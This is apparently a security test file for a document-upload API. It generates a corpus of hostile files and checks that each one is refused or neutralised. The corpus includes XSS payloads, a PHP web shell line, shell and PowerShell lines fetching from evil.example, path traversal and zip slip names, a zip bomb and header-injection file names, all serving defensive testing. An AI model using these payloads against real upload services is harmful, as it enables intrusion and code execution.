import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hasHiddenCharacters } from '@rtms/shared/upload-rules';
import { bearer, ADMIN_EMAIL, createTestApp, type TestApp } from '../../test/test-app';
import { multipartBody, type TestFilePart } from '../../test/multipart';
import { sampleJpeg, sampleOle, sampleOoxml, samplePdf, samplePng, zipOf } from '../../test/sample-files';
import {
  call,
  expectFileHeaders,
  setUpDirectory,
  storedFiles,
  tempFiles,
  type Directory,
} from './documents-test-support';

/**
 * A corpus of hostile uploads, generated here. Each one must be refused (400/413/415, nothing stored) or
 * neutralised (stored under a safe name and media type, served as an attachment with nosniff and a
 * sandbox CSP). None may cause a server error.
 */

type Outcome = 'rejected' | 'neutralised';

interface HostileCase {
  name: string;
  expect: Outcome;
  /** The stored name when neutralised. */
  storedAs?: string;
  /** Fields, file parts, or a raw request body. */
  fields?: Record<string, string | string[]>;
  files?: TestFilePart | TestFilePart[];
  raw?: { payload: Buffer; contentType: string };
}

const MZ = Buffer.concat([
  Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'),
  Buffer.alloc(64),
  Buffer.from('PE\0\0'),
]);
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(56)]);
const MACHO = Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01]), Buffer.alloc(24)]);
const html =
  '<!DOCTYPE html><html><body><script>fetch("/api/users").then(r=>r.text()).then(alert)</script></body></html>';
const svg =
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(1)</script></svg>';

/** A ZIP whose entry name is patched after building (yazl refuses unsafe names, as it should). */
async function zipWithRawName(placeholder: string, name: string): Promise<Buffer> {
  expect(placeholder.length).toBe(name.length);
  const zip = await zipOf({ [placeholder]: '#!/bin/sh\necho owned\n' });
  return Buffer.from(zip.toString('latin1').split(placeholder).join(name), 'latin1');
}

async function corpus(): Promise<HostileCase[]> {
  const pdf = samplePdf();
  const f = (fileName: string, content: Buffer | string, extra: Partial<TestFilePart> = {}): TestFilePart => ({
    fileName,
    content,
    ...extra,
  });
  return [
    { name: 'HTML page', expect: 'rejected', files: f('page.html', html, { contentType: 'text/html' }) },
    { name: 'HTML named .pdf', expect: 'rejected', files: f('report.pdf', html, { contentType: 'application/pdf' }) },
    { name: 'HTML named .txt', expect: 'rejected', files: f('notes.txt', html) },
    {
      name: 'HTML after a BOM and blank lines, named .csv',
      expect: 'rejected',
      files: f('data.csv', `\ufeff\r\n\t <HTML><body onload=alert(1)>`),
    },
    { name: 'SVG with script', expect: 'rejected', files: f('logo.svg', svg, { contentType: 'image/svg+xml' }) },
    { name: 'SVG named .png', expect: 'rejected', files: f('logo.png', svg, { contentType: 'image/png' }) },
    { name: 'SVG named .txt', expect: 'rejected', files: f('logo.txt', '<svg onload=alert(1)>') },
    {
      name: 'XML with XSLT',
      expect: 'rejected',
      files: f('data.xml', '<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>'),
    },
    {
      name: 'GIF + HTML polyglot',
      expect: 'rejected',
      files: f('pic.gif', Buffer.concat([Buffer.from('GIF89a'), Buffer.from(`<html>${html}`)])),
    },
    {
      name: 'PDF + HTML polyglot',
      expect: 'rejected',
      files: f('report.pdf', `%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF`),
    },
    {
      name: 'GIF + JavaScript polyglot (no markup)',
      expect: 'neutralised',
      storedAs: 'pic.gif',
      files: f('pic.gif', 'GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.cookie)//;'),
    },
    {
      name: 'PDF with a JavaScript action',
      expect: 'neutralised',
      storedAs: 'form.pdf',
      files: f(
        'form.pdf',
        '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF',
      ),
    },
    {
      name: 'JPEG carrying PHP',
      expect: 'neutralised',
      storedAs: 'shell.php.jpg',
      files: f('shell.php.jpg', Buffer.concat([sampleJpeg(), Buffer.from('<?php system($_GET["c"]); ?>')])),
    },
    { name: 'double extension report.pdf.exe (program)', expect: 'rejected', files: f('report.pdf.exe', MZ) },
    { name: 'double extension report.pdf.exe (PDF inside)', expect: 'rejected', files: f('report.pdf.exe', pdf) },
    { name: 'Windows program named .pdf', expect: 'rejected', files: f('invoice.pdf', MZ) },
    { name: 'Linux program named .pdf', expect: 'rejected', files: f('scan.pdf', ELF) },
    { name: 'macOS program named .jpg', expect: 'rejected', files: f('photo.jpg', MACHO) },
    {
      name: 'shell script named .txt',
      expect: 'rejected',
      files: f('run.txt', '#!/bin/sh\ncurl http://evil.example | sh\n'),
    },
    { name: 'JavaScript file', expect: 'rejected', files: f('app.js', 'alert(1)') },
    { name: 'PowerShell script', expect: 'rejected', files: f('setup.ps1', 'Invoke-WebRequest http://evil.example') },
    {
      name: 'path traversal ../../etc/passwd',
      expect: 'rejected',
      files: f('../../etc/passwd', 'root:x:0:0::/root:/bin/bash\n'),
    },
    {
      name: 'path traversal ..\\..\\windows\\win.ini',
      expect: 'rejected',
      files: f('..\\..\\windows\\win.ini', '[fonts]\n'),
    },
    {
      name: 'path traversal to an accepted name',
      expect: 'neutralised',
      storedAs: 'rtms-evil.pdf',
      files: f('../../../../../../tmp/rtms-evil.pdf', pdf, { nameEncoding: 'ext' }),
    },
    {
      name: 'NUL in the name (report.pdf\\0.exe)',
      expect: 'rejected',
      files: f('report.pdf\0.exe', pdf, { nameEncoding: 'ext' }),
    },
    {
      name: 'NUL in the name (scan\\0.pdf)',
      expect: 'neutralised',
      storedAs: 'scan.pdf',
      files: f('scan\0.pdf', pdf, { nameEncoding: 'ext' }),
    },
    { name: 'right-to-left override hiding .exe', expect: 'rejected', files: f('invoice\u202Efdp.exe', MZ) },
    {
      name: 'right-to-left override in an accepted name',
      expect: 'neutralised',
      storedAs: 'photognp.pdf',
      files: f('photo\u202Egnp.pdf', pdf),
    },
    // The multipart parser drops a part whose decoded name holds a line break: no file arrives.
    {
      name: 'CR/LF in the name (header injection)',
      expect: 'rejected',
      files: f('a\r\nSet-Cookie: x=1.pdf', pdf, { nameEncoding: 'ext' }),
    },
    {
      name: 'percent-encoded CR/LF in the name (as browsers send it)',
      expect: 'neutralised',
      storedAs: 'a%0D%0ASet-Cookie_ x=1.pdf',
      files: f('a\r\nSet-Cookie: x=1.pdf', pdf),
    },
    {
      name: 'very long name (10,000 characters)',
      expect: 'neutralised',
      storedAs: `${'a'.repeat(196)}.pdf`,
      files: f(`${'a'.repeat(10_000)}.pdf`, pdf),
    },
    { name: 'Windows device name CON.pdf', expect: 'neutralised', storedAs: '_CON.pdf', files: f('CON.pdf', pdf) },
    {
      name: 'hidden file .htaccess',
      expect: 'rejected',
      files: f('.htaccess', 'AddType application/x-httpd-php .pdf'),
    },
    { name: 'no extension at all', expect: 'rejected', files: f('README', 'text') },
    {
      name: 'zip bomb (20 MB of zeros)',
      expect: 'rejected',
      files: f('photos.zip', await zipOf({ 'zeros.bin.txt': Buffer.alloc(20 * 1024 * 1024) })),
    },
    {
      name: 'ZIP with a ../ entry (zip slip)',
      expect: 'rejected',
      files: f('photos.zip', await zipWithRawName('aa/aa/evil.txt', '../../evil.txt')),
    },
    {
      name: 'ZIP with an absolute entry',
      expect: 'rejected',
      files: f('photos.zip', await zipWithRawName('a/evil.txt', '/aevil.txt')),
    },
    { name: 'ZIP containing a program', expect: 'rejected', files: f('photos.zip', await zipOf({ 'setup.exe': MZ })) },
    {
      name: 'ZIP containing a web page',
      expect: 'rejected',
      files: f('photos.zip', await zipOf({ 'index.html': html })),
    },
    {
      name: 'nested ZIP (42.zip style)',
      expect: 'rejected',
      files: f('photos.zip', await zipOf({ 'inner.zip': await zipOf({ 'a.txt': 'a' }) })),
    },
    {
      name: 'macro-enabled .docm',
      expect: 'rejected',
      files: f('plan.docm', await sampleOoxml('docx', { 'word/vbaProject.bin': 'VBA' })),
    },
    {
      name: '.docm renamed .docx (vbaProject.bin)',
      expect: 'rejected',
      files: f('plan.docx', await sampleOoxml('docx', { 'word/vbaProject.bin': 'VBA' })),
    },
    {
      name: 'xlsx with Excel 4.0 macro sheet',
      expect: 'rejected',
      files: f('log.xlsx', await sampleOoxml('xlsx', { 'xl/macrosheets/sheet1.xml': '<x/>' })),
    },
    {
      name: 'ZIP renamed .docx (not a Word document)',
      expect: 'rejected',
      files: f('plan.docx', await zipOf({ 'a.txt': 'a' })),
    },
    {
      name: 'legacy .doc with a VBA project',
      expect: 'rejected',
      files: f('legacy.doc', sampleOle(['WordDocument', 'Macros', 'VBA', '_VBA_PROJECT'])),
    },
    {
      name: 'installer (OLE2 without a Word stream) named .doc',
      expect: 'rejected',
      files: f('legacy.doc', sampleOle(['!_StringData', '!_Tables'])),
    },
    {
      name: 'password-protected .docx',
      expect: 'rejected',
      files: f('secret.docx', sampleOle(['EncryptionInfo', 'EncryptedPackage'])),
    },
    { name: 'empty file', expect: 'rejected', files: f('empty.pdf', Buffer.alloc(0)) },
    {
      name: 'oversize file (limit + 1 byte)',
      expect: 'rejected',
      files: f('big.txt', Buffer.alloc(2 * 1024 * 1024 + 1, 'a')),
    },
    {
      name: 'wrong Content-Type header (PNG sent as text/html)',
      expect: 'neutralised',
      storedAs: 'photo.png',
      files: f('photo.png', samplePng(), { contentType: 'text/html' }),
    },
    { name: 'JPEG content named .png', expect: 'rejected', files: f('photo.png', sampleJpeg()) },
    { name: 'UTF-16 text', expect: 'rejected', files: f('notes.txt', Buffer.from('\ufeffhello', 'utf16le')) },
    {
      name: 'text with binary data after the first 4 KB',
      expect: 'rejected',
      files: f('notes.txt', Buffer.concat([Buffer.alloc(8192, 'a'), Buffer.from([0, 1, 2, 3])])),
    },
    { name: 'two files in one request', expect: 'rejected', files: [f('a.pdf', pdf), f('b.pdf', pdf)] },
    { name: 'file in the wrong field', expect: 'rejected', files: f('a.pdf', pdf, { field: 'attachment' }) },
    {
      name: 'a forbidden field name (__proto__)',
      expect: 'rejected',
      fields: { __proto__x: 'x', ['__proto__']: 'y' },
      files: f('a.pdf', pdf),
    },
    {
      name: 'truncated multipart body',
      expect: 'rejected',
      raw: (() => {
        const body = multipartBody({}, f('a.pdf', pdf));
        return {
          payload: body.payload.subarray(0, body.payload.length - 30),
          contentType: body.headers['content-type'],
        };
      })(),
    },
    {
      name: 'multipart without a boundary',
      expect: 'rejected',
      raw: { payload: Buffer.from('--x\r\n\r\n'), contentType: 'multipart/form-data' },
    },
  ];
}

let t: TestApp;
let dir: Directory;

beforeAll(async () => {
  t = await createTestApp({ UPLOAD_MAX_BYTES: String(2 * 1024 * 1024) });
  dir = await setUpDirectory(t, await t.signIn(ADMIN_EMAIL));
});
afterAll(() => t.close());

describe('hostile uploads', () => {
  it('refuses or neutralises every file of the corpus, with no server error and nothing stored for a refused one', async () => {
    const cases = await corpus();
    expect(cases.length).toBeGreaterThanOrEqual(25);
    const token = dir.tokens.FACILITY_USER;
    const results: { case: string; status: number; outcome: string; message: string }[] = [];
    for (const hostile of cases) {
      const filesBefore = storedFiles(t).length;
      const totalBefore = (await call(t, dir.admin, 'GET', '/api/documents?pageSize=1')).body.meta.total as number;
      const body = hostile.raw
        ? { payload: hostile.raw.payload, headers: { 'content-type': hostile.raw.contentType } }
        : multipartBody({ facilityId: dir.facilityA, ...hostile.fields }, hostile.files ?? []);
      const response = await t.app.inject({
        method: 'POST',
        url: '/api/documents',
        payload: body.payload,
        headers: { ...body.headers, ...bearer(token) },
      });
      const json = response.json() as { data?: { _id: string; fileName: string; mediaType: string }; message?: string };
      results.push({
        case: hostile.name,
        status: response.statusCode,
        outcome: hostile.expect,
        message: json.message ?? json.data?.fileName ?? '',
      });
      expect(response.statusCode, `${hostile.name}: ${response.body}`).toBeLessThan(500);
      expect(tempFiles(t), hostile.name).toEqual([]);
      if (hostile.expect === 'rejected') {
        expect([400, 413, 415], `${hostile.name}: ${response.body}`).toContain(response.statusCode);
        expect(json.message, hostile.name).toBeTruthy();
        expect(storedFiles(t).length, hostile.name).toBe(filesBefore);
        expect((await call(t, dir.admin, 'GET', '/api/documents?pageSize=1')).body.meta.total, hostile.name).toBe(
          totalBefore,
        );
      } else {
        expect(response.statusCode, `${hostile.name}: ${response.body}`).toBe(201);
        const doc = json.data as { _id: string; fileName: string; mediaType: string };
        expect(doc.fileName, hostile.name).toBe(hostile.storedAs);
        expect(hasHiddenCharacters(doc.fileName) || /[/\\]/.test(doc.fileName), hostile.name).toBe(false);
        expect(['application/pdf', 'image/png', 'image/jpeg', 'image/gif']).toContain(doc.mediaType);
        const download = await t.app.inject({
          method: 'GET',
          url: `/api/documents/${doc._id}/download?inline=true`,
          headers: bearer(token),
        });
        expect(download.statusCode).toBe(200);
        expectFileHeaders(download);
        expect(download.headers['content-type']).toBe(doc.mediaType);
        expect(Object.keys(download.headers).map((key) => key.toLowerCase())).not.toContain('set-cookie');
      }
    }
    // Nothing was written outside the storage folder.
    expect(fs.existsSync(path.join('/tmp', 'rtms-evil.pdf'))).toBe(false);
    const summary = results.map(
      (r) => `${String(r.status).padEnd(4)} ${r.outcome.padEnd(12)} ${r.case} — ${r.message}`,
    );
    // The corpus and its outcome, for the record (see the test output).
    console.info(`Hostile upload corpus: ${results.length} files\n${summary.join('\n')}`);
    expect(results.filter((r) => r.status >= 500)).toEqual([]);
  });
});
